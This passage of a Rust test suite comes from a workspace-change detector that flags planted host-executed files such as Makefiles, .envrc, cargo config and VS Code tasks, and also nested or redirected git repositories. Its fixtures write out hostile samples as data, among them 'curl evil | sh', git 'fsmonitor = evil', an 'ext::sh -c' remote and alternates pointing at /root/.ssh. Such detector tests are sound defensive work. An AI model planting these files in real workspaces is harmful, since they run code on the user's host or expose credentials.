                ("build/Makefile", "modified"),
                ("pkg/a/package.json", "removed"),
                ("rs/.cargo/config.toml", "added"),
            ]
        );
        let envrc = &changes[0];
        assert!(
            envrc.diff.contains("+curl evil | sh\\x1b]0;t\\x07"),
            "{}",
            envrc.diff
        );
        assert!(!envrc.diff.contains('\x1b'));
        assert!(summary(&changes).contains(".envrc (modified)"));
    }

    #[test]
    fn an_edit_through_a_link_is_a_change_of_the_linked_file() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        write(root, "build/mk", "all:\n");
        std::os::unix::fs::symlink("build/mk", root.join("Makefile")).unwrap();
        let patterns = list(&["Makefile"]);
        let before = Baseline::scan(root, &patterns);
        write(root, "build/mk", "all:\n\tevil\n");
        let changes = before.changes(&Baseline::scan(root, &patterns));
        assert_eq!(changes.len(), 1, "{changes:?}");
        assert_eq!(
            (changes[0].path.as_str(), changes[0].change),
            ("Makefile", "modified")
        );
    }

    #[test]
    fn a_watched_folder_made_a_link_is_flagged_and_so_are_edits_through_it() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        write(root, "tools/cargo/config.toml", "[build]\n");
        write(root, "tools/vsc/tasks.json", "{}\n");
        write(root, "sub/keep", "");
        let patterns = defaults();
        let before = Baseline::scan(root, &patterns);
        // Where the host's cargo and VS Code look, the walk saw a link and nothing below it.
        std::os::unix::fs::symlink("tools/cargo", root.join(".cargo")).unwrap();
        std::os::unix::fs::symlink("../tools/vsc", root.join("sub/.vscode")).unwrap();
        std::os::unix::fs::symlink("/somewhere/on/the/host", root.join(".husky")).unwrap();
        // A link out of the mounted folder is read on the host: only the link is looked at.
        std::os::unix::fs::symlink("/", root.join(".mvn")).unwrap();
        let linked = Baseline::scan(root, &patterns);
        let paths = |changes: &[Change]| {
            changes
                .iter()
                .map(|c| (c.path.clone(), c.change))
                .collect::<Vec<_>>()
        };
        let added = paths(&before.changes(&linked));
        for path in [
            ".cargo",
            ".cargo/config.toml",
            ".husky",
            ".mvn",
            "sub/.vscode",
            "sub/.vscode/tasks.json",
        ] {
            assert!(
                added.contains(&(path.to_string(), "added")),
                "{path}: {added:?}"
            );
        }
        // Edits through the link later: the path the host reads changed.
        write(
            root,
            "tools/cargo/config.toml",
            "[build]\nrustc-wrapper = \"/tmp/x\"\n",
        );
        let edited = paths(&linked.changes(&Baseline::scan(root, &patterns)));
        assert_eq!(edited, [(".cargo/config.toml".to_string(), "modified")]);
        assert!(
            !linked.files.keys().any(|k| k.starts_with(".mvn/")),
            "a link out of the folder was walked"
        );
        // A link elsewhere, where no watched folder is, is nobody's business.
        std::os::unix::fs::symlink("tools", root.join("other")).unwrap();
        assert!(folder_globs(&patterns).is_match(".cargo"));
        assert!(!folder_globs(&patterns).is_match("other"));
    }

    #[test]
    fn a_long_list_is_counted_not_spelled_out() {
        let changes: Vec<Change> = (0..25)
            .map(|i| Change {
                path: format!("p{i}/Makefile"),
                change: "added",
                git: false,
                diff: String::new(),
                before: None,
                after: None,
            })
            .collect();
        let line = summary(&changes);
        assert!(line.contains("p9/Makefile (added), and 15 more"), "{line}");
        assert!(!line.contains("p10/"));
    }

    #[test]
    fn a_nested_repository_and_replace_refs_are_flagged_as_git() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        write(root, ".git/HEAD", "ref: refs/heads/main\n");
        write(
            root,
            ".git/packed-refs",
            "# pack-refs\n0123 refs/heads/main\n",
        );
        let before = Baseline::scan(root, &[]);
        write(
            root,
            "vendor/tool/.git/config",
            "[core]\n\tfsmonitor = evil\n",
        );
        write(root, "src/.git", "gitdir: ../evil\n");
        // A folder git takes for a repository by itself, bare-style.
        write(root, "lib/HEAD", "ref: refs/heads/main\n");
        write(root, "lib/objects/info/x", "");
        write(root, "lib/refs/heads/x", "");
        write(root, "lib/config", "[core]\n\tfsmonitor = evil\n");
        // Git's own test, not a stricter one: objects and refs as a link and as a file with an
        // execute bit, and a folder whose commondir has them.
        write(root, "l2/HEAD", "ref: refs/heads/main\n");
        std::fs::create_dir_all(root.join("store/objects")).unwrap();
        std::os::unix::fs::symlink(root.join("store/objects"), root.join("l2/objects")).unwrap();
        write(root, "l2/refs", "");
        {
            use std::os::unix::fs::PermissionsExt;
            let refs = root.join("l2/refs");
            std::fs::set_permissions(&refs, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        write(
            root,
            "l3/HEAD",
            "0123456789abcdef0123456789abcdef01234567\n",
        );
        write(root, "l3/commondir", "../store\n");
        std::fs::create_dir_all(root.join("store/refs")).unwrap();
        // A HEAD without objects/ and refs/ beside it is a file like any other.
        write(root, "docs/HEAD", "not git\n");
        write(root, ".git/rebase-merge/git-rebase-todo", "exec evil\n");
        write(root, ".git/objects/info/alternates", "/root/.ssh\n");
        write(root, ".git/remotes/origin", "URL: ext::sh -c evil\n");
        write(root, ".git/refs/replace/abcd", "ef01\n");
        write(
            root,
            ".git/packed-refs",
            "# pack-refs\n0123 refs/heads/main\n4567 refs/replace/89ab\n",
        );
        let changes = before.changes(&Baseline::scan(root, &[]));
        let got: Vec<(&str, bool)> = changes.iter().map(|c| (c.path.as_str(), c.git)).collect();
        assert_eq!(
            got,
            [
                (".git/objects/info/alternates", true),
                (".git/packed-refs (refs/replace/)", true),
                (".git/rebase-merge/git-rebase-todo", true),
                (".git/refs/replace/abcd", true),
                (".git/remotes/origin", true),
                ("l2", true),
                ("l3", true),
                ("lib", true),
                ("lib/config", true),
                ("src/.git", true),
                ("vendor/tool/.git", true),
                ("vendor/tool/.git/config", true),
            ]
        );
        let text = summary(&changes);
        assert!(text.contains("a replace ref makes git checkout"), "{text}");
        assert!(text.contains("a repository inside the workspace"), "{text}");
        assert!(
            text.contains("a folder git takes for a repository of its own"),
            "{text}"
        );
        assert!(text.contains("its exec lines run on the host"), "{text}");
    }

    /// With its `.git` broken (HEAD removed), git takes the root itself for a repository when
    /// it holds HEAD, objects/ and refs/: that is flagged too.
    #[test]
    fn the_root_made_into_a_bare_repository_is_flagged() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        write(root, ".git/config", "[core]\n");
        let before = Baseline::scan(root, &[]);
        write(root, "HEAD", "ref: refs/heads/master\n");
        write(root, "objects/x", "");
        write(root, "refs/x", "");
        write(root, "config", "[core]\n\tfsmonitor = evil\n");
        let changes = before.changes(&Baseline::scan(root, &[]));
        let got: Vec<(&str, bool)> = changes.iter().map(|c| (c.path.as_str(), c.git)).collect();
        assert_eq!(got, [("HEAD", true), ("config", true)]);
        assert!(summary(&changes).contains("a folder git takes for a repository of its own"));
    }

    #[test]
    fn a_walk_past_its_cap_says_it_is_incomplete() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        for i in 0..=MAX_FILES {
            write(root, &format!("p/{i}/Makefile"), "");
        }
        assert!(!Baseline::scan(root, &defaults()).complete);
    }

    #[test]
    fn links_to_a_big_folder_share_the_walks_cap() {
        // Each link where a watched folder would be is walked below: 600 links to a folder of
        // 1,000 entries (one of them watched) would be 600,000 entries, past the cap, and the
        // scan says so.
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        for i in 0..999 {
            write(root, &format!("big/f{i}"), "");
        }
        write(root, "big/config.toml", "");
        for i in 0..600 {
            std::fs::create_dir_all(root.join(format!("d{i}"))).unwrap();
            std::os::unix::fs::symlink("../big", root.join(format!("d{i}/.cargo"))).unwrap();
        }
        let scan = Baseline::scan(root, &defaults());
        assert!(!scan.complete);
        // Each link and the watched file below it, until the cap.
        assert!(scan.files.len() < 2 * 600, "{}", scan.files.len());
        assert!(
            scan.files.contains_key("d0/.cargo/config.toml"),
            "below the first link"
        );
    }

    /// A Makefile and a bare-style repository below folders deeper than PATH_MAX: no path
    /// reaches them, and the look still compares them.
    #[test]
    fn files_deeper_than_the_path_limit_are_compared() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        let patterns = defaults();
        let name = "d".repeat(200);
        crate::fs_at::deep(root, &name, 25, "Makefile", "all:\n");
        let before = Baseline::scan(root, &patterns);
        assert!(before.complete, "{:?}", before.left_out);
        let deep = format!("{}Makefile", format!("{name}/").repeat(25));
        assert!(deep.len() > 4096);
        assert_eq!(before.files[&deep].text.as_deref(), Some("all:\n"));
        crate::fs_at::deep(root, &name, 25, "Makefile", "all:\n\tevil\n");
        crate::fs_at::deep(root, &name, 26, "HEAD", "ref: refs/heads/main\n");
        crate::fs_at::deep(root, &name, 26, "objects/", "");
        crate::fs_at::deep(root, &name, 26, "refs/", "");
        crate::fs_at::deep(root, &name, 26, "config", "[core]\n\tfsmonitor = evil\n");
        let now = Baseline::scan(root, &patterns);
        let changes = before.changes(&now);
        let got: Vec<(&str, &str)> = changes
            .iter()
            .map(|c| (c.path.as_str(), c.change))
            .collect();
        let bare = format!("{}{name}", format!("{name}/").repeat(25));
        let config = format!("{bare}/config");
        assert_eq!(
            got,
            [
                (deep.as_str(), "modified"),
                (bare.as_str(), "added"),
                (config.as_str(), "added"),
            ]
        );
        assert!(changes[1].git && changes[2].git);
        assert!(changes[0].diff.contains("+\\tevil"), "{}", changes[0].diff);
    }

    #[test]
    fn a_planted_commondir_is_a_git_redirect() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        std::fs::create_dir_all(root.join(".git/modules/sub")).unwrap();
        std::fs::write(root.join(".git/modules/sub/HEAD"), "ref: x\n").unwrap();
        let before = Baseline::scan(root, &[]);
        std::fs::write(root.join(".git/commondir"), "../evil\n").unwrap();
        std::fs::write(root.join(".git/modules/sub/commondir"), "../../../evil\n").unwrap();
        let changes = before.changes(&Baseline::scan(root, &[]));
        let got: Vec<(&str, bool)> = changes.iter().map(|c| (c.path.as_str(), c.git)).collect();
        assert_eq!(
            got,
            [
                (".git/commondir", true),
                (".git/modules/sub/commondir", true)
            ]
        );
        assert!(summary(&changes).contains("git on the host would read its config"));
    }

    #[test]
    fn a_same_size_edit_of_a_large_file_is_a_change() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        std::fs::write(root.join("Makefile"), vec![b'a'; MAX_TEXT + 10]).unwrap();
        let patterns = list(&["Makefile"]);
        let before = Baseline::scan(root, &patterns);
        std::fs::write(root.join("Makefile"), vec![b'b'; MAX_TEXT + 10]).unwrap();
        let changes = before.changes(&Baseline::scan(root, &patterns));
        assert_eq!(changes.len(), 1);
        assert_eq!(
            changes[0].diff, "",
            "no diff for a large file, the hashes tell"
        );
        assert_ne!(changes[0].before, changes[0].after);
    }
}
